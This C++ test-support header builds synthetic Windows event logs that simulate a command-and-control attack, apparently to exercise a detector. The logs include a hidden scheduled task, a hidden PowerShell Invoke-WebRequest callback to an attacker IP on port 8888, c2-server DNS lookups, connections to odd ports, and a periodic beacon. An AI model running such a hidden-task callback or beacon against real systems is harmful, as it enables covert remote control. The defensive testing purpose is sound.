// A short attack in Winlogbeat's shape that wakes every detector: a hidden task that calls back, a
// burst of lookups, connections to odd ports, and a beacon over two hours.
#pragma once

#include <cstdio>
#include <string>
#include <vector>

namespace c2watch::testing_support {

inline std::string attack_record(int event_id, int minute, int second, int id,
                                 const std::string& data, const char* channel) {
  char stamp[48];
  std::snprintf(stamp, sizeof stamp, "2026-02-02T%02d:%02d:%02d.000Z", 9 + minute / 60, minute % 60,
                second);
  std::string utc(stamp, 23);
  utc[10] = ' ';
  const std::string guid = "{247090f2-6084-8944-2ff0-ecc5709ce3ae}";
  return std::string("{\"@timestamp\":\"") + stamp + "\",\"winlog\":{\"channel\":\"" + channel +
         "\",\"computer_name\":\"WS-01.corp.example\",\"event_id\":\"" + std::to_string(event_id) +
         "\",\"record_id\":" + std::to_string(id) + ",\"event_data\":{\"UtcTime\":\"" + utc +
         "\",\"ProcessGuid\":\"" + guid +
         "\",\"ProcessId\":\"4711\",\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\"
         "v1.0\\\\powershell.exe\"," +
         data + "}}}";
}

inline std::vector<std::string> attack_records() {
  constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";
  std::vector<std::string> all;
  int id = 1;
  all.push_back(attack_record(
      4698, 0, 0, id++,
      "\"SubjectUserName\":\"user306\",\"SubjectDomainName\":\"CORP\",\"TaskName\":"
      "\"\\\\WindowsNetworkHealth\",\"TaskContent\":\"<?xml version=\\\"1.0\\\"?><Task><Actions>"
      "<Exec><Command>powershell.exe</Command><Arguments>-NoProfile -WindowStyle Hidden -c "
      "Invoke-WebRequest http://142.254.39.90:8888/</Arguments></Exec></Actions></Task>\"",
      "Security"));
  all.push_back(attack_record(
      1, 1, 0, id++,
      "\"CommandLine\":\"powershell.exe -NoProfile -WindowStyle Hidden -c Invoke-WebRequest "
      "http://142.254.39.90:8888/\",\"ParentProcessGuid\":\"{247090f2-0000-0000-0000-"
      "000000000001}\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\","
      "\"ParentCommandLine\":\"C:\\\\Windows\\\\system32\\\\svchost.exe -k netsvcs -p -s "
      "Schedule\"",
      kSysmon));
  for (int i = 0; i < 6; ++i)
    all.push_back(attack_record(22, 2, i, id++,
                                "\"QueryName\":\"c2-server-" + std::to_string(i) + ".example" +
                                    std::to_string(i) +
                                    ".com\",\"QueryStatus\":\"9003\",\"QueryResults\":\"-\"",
                                kSysmon));
  for (const char* port : {"4444", "8080", "8888"})
    all.push_back(attack_record(3, 3, id % 60, id,
                                "\"Initiated\":\"true\",\"DestinationIp\":\"142.254.39.90\","
                                "\"DestinationPort\":\"" +
                                    std::string(port) + "\"",
                                kSysmon)),
        ++id;
  for (int i = 0; i < 14; ++i)
    all.push_back(attack_record(3, 10 + i * 8, 0, id++,
                                "\"Initiated\":\"true\",\"DestinationIp\":\"142.254.39.91\","
                                "\"DestinationHostname\":\"c2.example.org\",\"DestinationPort\":"
                                "\"443\"",
                                kSysmon));
  return all;
}

}  // namespace c2watch::testing_support
